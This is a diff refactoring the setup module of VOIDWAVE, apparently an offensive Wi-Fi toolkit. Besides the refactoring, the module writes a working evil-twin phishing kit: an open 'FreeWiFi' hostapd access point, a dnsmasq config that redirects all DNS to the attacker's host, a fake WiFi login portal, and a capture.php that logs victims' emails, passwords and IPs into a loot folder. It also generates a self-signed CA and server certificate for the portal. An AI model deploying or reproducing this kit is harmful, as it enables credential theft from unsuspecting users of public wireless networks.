@@ -1,9 +1,13 @@
 """AUTO-SETUP handler for configuration and service setup."""
 
 import asyncio
+import os
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
+from types import MappingProxyType
 from typing import Any
 
+from voidwave.automation.fallbacks import which
 from voidwave.automation.labels import AUTO_REGISTRY
 from voidwave.core.constants import (
     VOIDWAVE_CERTS_DIR,
@@ -23,82 +27,55 @@ from voidwave.core.constants import (
 )
 
 
-class AutoSetupHandler:
-    """Handles AUTO-SETUP for creating configurations, directories, and certificates."""
-
-    def __init__(self, setup_type: str = "") -> None:
-        self.setup_type = setup_type
-
-    async def can_fix(self) -> bool:
-        """Check if we can perform this setup."""
-        return self.setup_type in [
-            "directories",
-            "config",
-            "certs",
-            "portal",
-            "hostapd",
-            "dnsmasq",
-        ]
+# setup_type -> name of the AutoSetupHandler method that performs it
+_SETUP_STEPS = MappingProxyType(
+    {
+        "directories": "_setup_directories",
+        "config": "_setup_config",
+        "certs": "_setup_certs",
+        "portal": "_setup_portal",
+        "hostapd": "_setup_hostapd",
+        "dnsmasq": "_setup_dnsmasq",
+    }
+)
 
-    async def fix(self) -> bool:
-        """Perform the setup."""
-        if self.setup_type == "directories":
-            return await self._setup_directories()
-        elif self.setup_type == "config":
-            return await self._setup_config()
-        elif self.setup_type == "certs":
-            return await self._setup_certs()
-        elif self.setup_type == "portal":
-            return await self._setup_portal()
-        elif self.setup_type == "hostapd":
-            return await self._setup_hostapd()
-        elif self.setup_type == "dnsmasq":
-            return await self._setup_dnsmasq()
-        return False
+_PROMPTS = MappingProxyType(
+    {
+        "directories": "Create VOIDWAVE directory structure?",
+        "config": "Create default configuration file?",
+        "certs": "Generate self-signed certificates?",
+        "portal": "Generate default captive portal assets?",
+        "hostapd": "Create hostapd configuration?",
+        "dnsmasq": "Create dnsmasq configuration?",
+    }
+)
 
-    async def get_ui_prompt(self) -> str:
-        """Get the UI prompt for this fix."""
-        prompts = {
-            "directories": "Create VOIDWAVE directory structure?",
-            "config": "Create default configuration file?",
-            "certs": "Generate self-signed certificates?",
-            "portal": "Generate default captive portal assets?",
-            "hostapd": "Create hostapd configuration?",
-            "dnsmasq": "Create dnsmasq configuration?",
-        }
-        return prompts.get(self.setup_type, f"Setup {self.setup_type}?")
+# Leaf directories only; makedirs creates the shared parents on the way
+_SETUP_DIRECTORIES: tuple[Path, ...] = (
+    VOIDWAVE_LOG_DIR,
+    VOIDWAVE_REPORTS_DIR,
+    VOIDWAVE_WIFI_CAPTURES_DIR,
+    VOIDWAVE_WIRED_CAPTURES_DIR,
+    VOIDWAVE_LOOT_DIR,
+    VOIDWAVE_SCANS_DIR,
+    VOIDWAVE_PORTALS_DIR,
+    VOIDWAVE_CERTS_DIR,
+    VOIDWAVE_WORDLISTS_DIR,
+    VOIDWAVE_TEMPLATES_DIR,
+    VOIDWAVE_SESSIONS_DIR,
+    VOIDWAVE_CONFIG_DIR,
+    VOIDWAVE_TEMP_DIR,
+)
 
-    async def _setup_directories(self) -> bool:
-        """Create the VOIDWAVE directory structure."""
-        directories = [
-            VOIDWAVE_LOG_DIR,
-            VOIDWAVE_REPORTS_DIR,
-            VOIDWAVE_WIFI_CAPTURES_DIR,
-            VOIDWAVE_WIRED_CAPTURES_DIR,
-            VOIDWAVE_LOOT_DIR,
-            VOIDWAVE_SCANS_DIR,
-            VOIDWAVE_PORTALS_DIR,
-            VOIDWAVE_CERTS_DIR,
-            VOIDWAVE_WORDLISTS_DIR,
-            VOIDWAVE_TEMPLATES_DIR,
-            VOIDWAVE_SESSIONS_DIR,
-            VOIDWAVE_CONFIG_DIR,
-            VOIDWAVE_TEMP_DIR,
-        ]
 
-        try:
-            for dir_path in directories:
-                dir_path.mkdir(parents=True, exist_ok=True)
-            return True
-        except PermissionError:
-            return False
+def _make_directories(directories: tuple[Path, ...]) -> None:
+    """Create each directory and its missing parents."""
+    for directory in directories:
+        os.makedirs(directory, exist_ok=True)
 
-    async def _setup_config(self) -> bool:
-        """Create default configuration file."""
-        config_path = VOIDWAVE_CONFIG_DIR / "settings.toml"
-        config_path.parent.mkdir(parents=True, exist_ok=True)
 
-        default_config = f'''# VOIDWAVE Configuration
+# Default file contents, encoded once
+_CONFIG_BYTES = f'''# VOIDWAVE Configuration
 
 [general]
 theme = "dark"
@@ -121,51 +98,33 @@ hash_mode = "auto"
 [reporting]
 format = "html"
 include_screenshots = true
-'''
-
-        try:
-            config_path.write_text(default_config)
-            return True
-        except Exception:
-            return False
-
-    async def _setup_certs(self) -> bool:
-        """Generate self-signed certificates."""
-        cert_dir = VOIDWAVE_CERTS_DIR
-        cert_dir.mkdir(parents=True, exist_ok=True)
+'''.encode()
 
-        # Generate CA certificate
-        ca_key = cert_dir / "ca.key"
-        ca_cert = cert_dir / "ca.crt"
-        server_key = cert_dir / "server.key"
-        server_cert = cert_dir / "server.crt"
-
-        commands = [
-            f"openssl genrsa -out {ca_key} 2048",
-            f'openssl req -new -x509 -days 3650 -key {ca_key} -out {ca_cert} -subj "/CN=VOIDWAVE CA"',
-            f"openssl genrsa -out {server_key} 2048",
-            f'openssl req -new -key {server_key} -subj "/CN=captive.portal" | openssl x509 -req -days 365 -CA {ca_cert} -CAkey {ca_key} -CAcreateserial -out {server_cert}',
-        ]
-
-        for cmd in commands:
-            proc = await asyncio.create_subprocess_shell(
-                cmd,
-                stdout=asyncio.subprocess.DEVNULL,
-                stderr=asyncio.subprocess.DEVNULL,
-            )
-            await proc.wait()
-            if proc.returncode != 0:
-                return False
+_HOSTAPD_BYTES = b'''interface=wlan0
+driver=nl80211
+ssid=FreeWiFi
+hw_mode=g
+channel=6
+wmm_enabled=0
+macaddr_acl=0
+auth_algs=1
+ignore_broadcast_ssid=0
+wpa=0
+'''
 
-        return True
+_DNSMASQ_BYTES = b'''interface=wlan0
+dhcp-range=192.168.1.2,192.168.1.254,255.255.255.0,12h
+dhcp-option=3,192.168.1.1
+dhcp-option=6,192.168.1.1
+server=8.8.8.8
+log-queries
+log-dhcp
+address=/#/192.168.1.1
+'''
 
-    async def _setup_portal(self) -> bool:
-        """Generate default captive portal assets."""
-        portal_dir = VOIDWAVE_PORTALS_DIR / "default"
-        portal_dir.mkdir(parents=True, exist_ok=True)
 
-        # index.html
-        index_html = '''<!DOCTYPE html>
+# Default captive portal assets
+_INDEX_HTML = '''<!DOCTYPE html>
 <html>
 <head>
     <title>WiFi Login</title>
@@ -185,8 +144,7 @@ include_screenshots = true
 </html>
 '''
 
-        # style.css
-        style_css = '''* { margin: 0; padding: 0; box-sizing: border-box; }
+_STYLE_CSS = '''* { margin: 0; padding: 0; box-sizing: border-box; }
 body { font-family: -apple-system, sans-serif; background: #1a1a2e; color: #fff; min-height: 100vh; display: flex; align-items: center; justify-content: center; }
 .container { background: #16213e; padding: 2rem; border-radius: 10px; width: 90%; max-width: 400px; }
 h1 { text-align: center; margin-bottom: 1.5rem; }
@@ -196,8 +154,7 @@ button { width: 100%; padding: 12px; border: none; border-radius: 5px; backgroun
 button:hover { background: #ff6b6b; }
 '''
 
-        # capture.php
-        capture_php = '''<?php
+_CAPTURE_PHP = '''<?php
 $email = $_POST['email'] ?? '';
 $password = $_POST['password'] ?? '';
 $ip = $_SERVER['REMOTE_ADDR'] ?? '';
@@ -209,10 +166,9 @@ file_put_contents($log, $entry, FILE_APPEND);
 
 header("Location: success.html");
 ?>
-'''
+'''.replace("{VOIDWAVE_LOOT_DIR}", str(VOIDWAVE_LOOT_DIR))
 
-        # success.html
-        success_html = '''<!DOCTYPE html>
+_SUCCESS_HTML = '''<!DOCTYPE html>
 <html>
 <head><title>Connected</title></head>
 <body style="text-align:center;padding:50px;font-family:sans-serif;">
@@ -222,36 +178,172 @@ header("Location: success.html");
 </html>
 '''
 
+_PORTAL_ASSETS: tuple[tuple[str, bytes], ...] = (
+    ("index.html", _INDEX_HTML.encode()),
+    ("style.css", _STYLE_CSS.encode()),
+    ("capture.php", _CAPTURE_PHP.encode()),
+    ("success.html", _SUCCESS_HTML.encode()),
+)
+
+
+def _write_file(
+    path: Path, data: bytes, mode: int = 0o644, *, force_mode: bool = False
+) -> None:
+    """Write bytes to a file with a single unbuffered write.
+
+    The mode only applies to a new file unless force_mode is set, in which
+    case an existing file is switched to it before any data is written.
+    """
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode)
+    try:
+        if force_mode:
+            os.fchmod(fd, mode)
+        view = memoryview(data)
+        while view:
+            view = view[os.write(fd, view) :]
+    finally:
+        os.close(fd)
+
+
+def _write_private(path: Path, data: bytes) -> None:
+    """Write a file readable only by its owner."""
+    _write_file(path, data, 0o600, force_mode=True)
+
+
+def _generate_certs(cert_dir: Path) -> None:
+    """Generate a CA and a captive.portal server certificate signed by it."""
+    # Imported here: x509 support is only needed for this one-off setup
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    from cryptography.x509.oid import NameOID
+
+    def _key_pem(key: rsa.RSAPrivateKey) -> bytes:
+        return key.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        )
+
+    def _cert(
+        subject: str, key: rsa.RSAPrivateKey, issuer: x509.Name | None, days: int
+    ) -> x509.CertificateBuilder:
+        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)])
+        now = datetime.now(timezone.utc)
+        return (
+            x509.CertificateBuilder()
+            .subject_name(name)
+            .issuer_name(issuer or name)
+            .public_key(key.public_key())
+            .serial_number(x509.random_serial_number())
+            .not_valid_before(now)
+            .not_valid_after(now + timedelta(days=days))
+        )
+
+    ca_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    ca_cert = (
+        _cert("VOIDWAVE CA", ca_key, None, 3650)
+        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
+        .sign(ca_key, hashes.SHA256())
+    )
+
+    server_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    server_cert = (
+        _cert("captive.portal", server_key, ca_cert.subject, 365)
+        .add_extension(
+            x509.SubjectAlternativeName([x509.DNSName("captive.portal")]),
+            critical=False,
+        )
+        .sign(ca_key, hashes.SHA256())
+    )
+
+    _write_private(cert_dir / "ca.key", _key_pem(ca_key))
+    (cert_dir / "ca.crt").write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
+    _write_private(cert_dir / "server.key", _key_pem(server_key))
+    (cert_dir / "server.crt").write_bytes(
+        server_cert.public_bytes(serialization.Encoding.PEM)
+    )
+
+
+@AUTO_REGISTRY.auto("AUTO-SETUP")
+class AutoSetupHandler:
+    """Handles AUTO-SETUP for creating configurations, directories, and certificates."""
+
+    def __init__(self, setup_type: str = "") -> None:
+        self.setup_type = setup_type
+
+    async def can_fix(self) -> bool:
+        """Check if we can perform this setup."""
+        return self.setup_type in _SETUP_STEPS
+
+    async def fix(self) -> bool:
+        """Perform the setup."""
+        step = _SETUP_STEPS.get(self.setup_type)
+        if step is None:
+            return False
+        ok = await getattr(self, step)()
+        if ok:
+            # Setup can make new tools or PATH entries visible
+            which.cache_clear()
+        return ok
+
+    async def get_ui_prompt(self) -> str:
+        """Get the UI prompt for this fix."""
+        return _PROMPTS.get(self.setup_type, f"Setup {self.setup_type}?")
+
+    async def _setup_directories(self) -> bool:
+        """Create the VOIDWAVE directory structure."""
         try:
-            (portal_dir / "index.html").write_text(index_html)
-            (portal_dir / "style.css").write_text(style_css)
-            (portal_dir / "capture.php").write_text(capture_php)
-            (portal_dir / "success.html").write_text(success_html)
+            await asyncio.to_thread(_make_directories, _SETUP_DIRECTORIES)
             return True
-        except Exception:
+        except PermissionError:
+            return False
+
+    async def _setup_config(self) -> bool:
+        """Create default configuration file."""
+        config_path = VOIDWAVE_CONFIG_DIR / "settings.toml"
+        config_path.parent.mkdir(parents=True, exist_ok=True)
+
+        try:
+            await asyncio.to_thread(_write_file, config_path, _CONFIG_BYTES)
+            return True
+        except OSError:
+            return False
+
+    async def _setup_certs(self) -> bool:
+        """Generate self-signed certificates."""
+        cert_dir = VOIDWAVE_CERTS_DIR
+        cert_dir.mkdir(parents=True, exist_ok=True)
+
+        try:
+            await asyncio.to_thread(_generate_certs, cert_dir)
+        except (OSError, ValueError):
             return False
+        return True
+
+    async def _setup_portal(self) -> bool:
+        """Generate default captive portal assets."""
+        portal_dir = VOIDWAVE_PORTALS_DIR / "default"
+        portal_dir.mkdir(parents=True, exist_ok=True)
+
+        results = await asyncio.gather(
+            *(
+                asyncio.to_thread(_write_file, portal_dir / name, data)
+                for name, data in _PORTAL_ASSETS
+            ),
+            return_exceptions=True,
+        )
+        return not any(isinstance(r, BaseException) for r in results)
 
     async def _setup_hostapd(self) -> bool:
         """Create hostapd configuration."""
         config_path = VOIDWAVE_CONFIG_DIR / "hostapd.conf"
         config_path.parent.mkdir(parents=True, exist_ok=True)
 
-        config = '''interface=wlan0
-driver=nl80211
-ssid=FreeWiFi
-hw_mode=g
-channel=6
-wmm_enabled=0
-macaddr_acl=0
-auth_algs=1
-ignore_broadcast_ssid=0
-wpa=0
-'''
-
         try:
-            config_path.write_text(config)
+            await asyncio.to_thread(_write_file, config_path, _HOSTAPD_BYTES)
             return True
-        except Exception:
+        except OSError:
             return False
 
     async def _setup_dnsmasq(self) -> bool:
@@ -259,22 +351,8 @@ wpa=0
         config_path = VOIDWAVE_CONFIG_DIR / "dnsmasq.conf"
         config_path.parent.mkdir(parents=True, exist_ok=True)
 
-        config = '''interface=wlan0
-dhcp-range=192.168.1.2,192.168.1.254,255.255.255.0,12h
-dhcp-option=3,192.168.1.1
-dhcp-option=6,192.168.1.1
-server=8.8.8.8
-log-queries
-log-dhcp
-address=/#/192.168.1.1
-'''
-
         try:
-            config_path.write_text(config)
+            await asyncio.to_thread(_write_file, config_path, _DNSMASQ_BYTES)
             return True
-        except Exception:
+        except OSError:
             return False
-
-
-# Register the handler
-AUTO_REGISTRY.register("AUTO-SETUP", AutoSetupHandler)